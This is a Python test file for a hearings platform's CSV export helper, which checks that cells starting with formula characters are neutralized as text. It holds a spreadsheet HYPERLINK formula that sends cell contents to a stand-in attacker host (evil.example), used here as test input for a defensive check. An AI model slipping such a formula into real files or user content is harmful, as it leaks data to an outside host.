"""CSV exports cannot carry formulas into a spreadsheet (asar.csvsafe): a citizen's `=HYPERLINK(...)`
arrives as text, and every CSV the platform writes goes through the one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from asar import ROOT_DIR
from asar.csvsafe import dict_rows_to_csv, neutralize
from asar.hearings import minutes, room, service
from tests.hearings.helpers import live_hearing, person, registered

pytestmark = pytest.mark.sqlite
HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for details")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_formula_starts_become_text(value: str) -> None:
    assert neutralize(value) == "'" + value
    [row] = list(csv.DictReader(io.StringIO(dict_rows_to_csv(["a"], [{"a": value}]))))
    assert row["a"] == "'" + value


@pytest.mark.parametrize("value", ["Trees", "1-2", " =x", "", 5, -3, 2.5, None])
def test_data_stays_as_it_is(value: object) -> None:
    assert neutralize(value) == value


async def test_minutes_csv_neutralizes_what_people_wrote(client, session) -> None:
    _, official = await person(session, "government")
    hearing = await live_hearing(session, official, title="-Budget hearing")
    await service.register(session, official, hearing.id)
    _, citizen = await registered(session, hearing, "citizen")
    question, _ = await room.ask_question(session, citizen, hearing.id, "q1", HYPERLINK)
    await room.answer_question(session, official, hearing.id, question.id, "@the chair: +7 701 000 00 00")
    await service.close_hearing(session, official, hearing.id)
    await minutes.add_decision(session, official, hearing.id, "=Plant 500 trees")
    response = await client.get(f"/hearings/{hearing.id}/minutes.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    [asked] = [r for r in rows if r["section"] == "question"]
    assert asked["item"] == "'" + HYPERLINK
    assert asked["detail"] == "'@the chair: +7 701 000 00 00"
    [title] = [r for r in rows if r["section"] == "hearing" and r["item"] == "title"]
    assert title["detail"] == "'-Budget hearing"
    assert any(r["section"] == "decision" and r["item"] == "'=Plant 500 trees" for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_every_csv_writer_is_the_safe_one() -> None:
    """csv.writer / csv.DictWriter appear only in asar/csvsafe.py (new exports must use it)."""
    offenders = []
    for path in sorted(Path(ROOT_DIR / "src" / "asar").rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b|from csv import", path.read_text(encoding="utf-8")):
            offenders.append(str(path))
    assert offenders == []
